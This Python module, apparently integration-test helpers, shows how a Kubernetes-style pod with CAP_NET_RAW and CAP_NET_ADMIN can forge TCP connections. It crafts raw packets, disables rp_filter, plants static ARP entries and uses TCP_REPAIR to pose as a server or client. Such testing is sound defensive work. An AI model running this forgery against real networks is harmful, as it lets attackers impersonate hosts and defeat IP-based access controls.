# SPDX-License-Identifier: Apache-2.0
"""Forged TCP: what a pod with CAP_NET_RAW and CAP_NET_ADMIN can do to look like somebody else."""

from __future__ import annotations

import ctypes
import socket
import struct
import time

from tests.integration.traffic_pods import LightPod
from tests.integration.traffic_twins import (
    RECV_QUEUE,
    REPAIR_OFF_NO_WP,
    SEND_QUEUE,
    TCP_QUEUE_SEQ,
    TCP_REPAIR,
    TCP_REPAIR_QUEUE,
)

SYN, ACK = 0x02, 0x10
TCP_ESTABLISHED = 1
TCP_REPAIR_WINDOW = 29  # linux/tcp.h
PORT = 8080


def segment(
    source: tuple[str, int], target: tuple[str, int], sequence: int, acknowledged: int, flags: int
) -> bytes:
    """An IPv4 packet with a TCP header and nothing else."""
    ports = source[1], target[1]
    numbers = sequence & 0xFFFFFFFF, acknowledged & 0xFFFFFFFF
    header = struct.pack("!HHIIBBHHH", *ports, *numbers, 5 << 4, flags, 65_535, 0, 0)
    addresses = socket.inet_aton(source[0]) + socket.inet_aton(target[0])
    checked = addresses + struct.pack("!HH", socket.IPPROTO_TCP, len(header)) + header
    header = header[:16] + struct.pack("!H", _checksum(checked)) + header[18:]
    size = 20 + len(header)
    return (
        struct.pack("!BBHHHBBH", 0x45, 0, size, 1, 0, 64, socket.IPPROTO_TCP, 0)
        + addresses
        + header
    )


def _checksum(data: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _set_sequence(sock: socket.socket, queue: int, number: int) -> None:
    sock.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, queue)
    sock.setsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ, ctypes.c_int32(number).value)


def cut_off(attacker: LightPod, ip: str) -> None:
    """What the attacker sends there reaches no host, and its TCP does not hear of that; forged
    packets from there are taken."""
    for name in ("all", "lo", "eth0"):
        attacker.sysctl(f"net.ipv4.conf.{name}.rp_filter", 0)
    attacker.command(f"ip neighbour replace {ip} lladdr 02:00:00:00:00:99 dev eth0 nud permanent")


def pose_as_server(
    attacker: LightPod, victim: tuple[str, int], client_isn: int, server_isn: int
) -> socket.socket:
    """An established socket of the attacker's, as if the victim had connected to it.

    client_isn and server_isn are the sequence numbers of the first data byte of either side. The
    attacker's own first number is set by TCP_REPAIR, and the victim's comes with forged packets;
    by way of a simultaneous open the kernel then takes the attacker's socket for a server's. It
    has counted the SYN that it sent, so its own numbers are one ahead of a server's.
    """
    cut_off(attacker, victim[0])
    sock = attacker.new_socket(uid=0)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind((attacker.ip, PORT))
    sock.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
    _set_sequence(sock, SEND_QUEUE, server_isn)
    sock.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, REPAIR_OFF_NO_WP)
    sock.setblocking(False)
    sock.connect_ex(victim)
    raw = attacker.new_socket(uid=0, kind=socket.SOCK_RAW, proto=socket.IPPROTO_RAW)
    with raw:
        me = (attacker.ip, PORT)
        for sequence, acknowledged, flags in (
            (client_isn - 1, 0, SYN),
            (client_isn, server_isn + 1, ACK),
        ):
            raw.sendto(segment(victim, me, sequence, acknowledged, flags), (attacker.ip, 0))
            time.sleep(0.02)
    assert state(sock) == TCP_ESTABLISHED
    return sock


def acknowledge(
    attacker: LightPod,
    forged: socket.socket,
    peer: tuple[str, int],
    sequence: int,
    acknowledged: int,
) -> None:
    """The attacker's socket says a byte, and the peer seems to have got it: a round trip. With it
    the socket is entered, or looks for its client. The numbers are those of the peer's next byte
    and of the own one."""
    forged.send(b"x")
    me = forged.getsockname()
    raw = attacker.new_socket(uid=0, kind=socket.SOCK_RAW, proto=socket.IPPROTO_RAW)
    with raw:
        raw.sendto(segment(peer, me, sequence, acknowledged + 1, ACK), (me[0], 0))


def pose_as_client(
    attacker: LightPod,
    me: tuple[str, int],
    server: tuple[str, int],
    client_isn: int,
    server_isn: int,
) -> socket.socket:
    """An established socket of the attacker's, as if it had connected from `me` to the server.

    It has entered the connection.
    """
    cut_off(attacker, server[0])
    attacker.command(f"ip address add {me[0]} dev lo")
    sock = attacker.new_socket(uid=0)
    sock.bind(me)
    sock.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
    _set_sequence(sock, SEND_QUEUE, client_isn - 1)  # no SYN is sent, and none is counted
    _set_sequence(sock, RECV_QUEUE, server_isn)
    sock.connect(server)
    window = struct.pack("IIIII", server_isn, 65_535, 65_535, 65_535, server_isn)
    sock.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_WINDOW, window)
    sock.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, REPAIR_OFF_NO_WP)
    assert state(sock) == TCP_ESTABLISHED
    acknowledge(attacker, sock, server, server_isn, client_isn - 1)
    return sock


def state(sock: socket.socket) -> int:
    """The TCP state."""
    first: int = sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0]
    return first
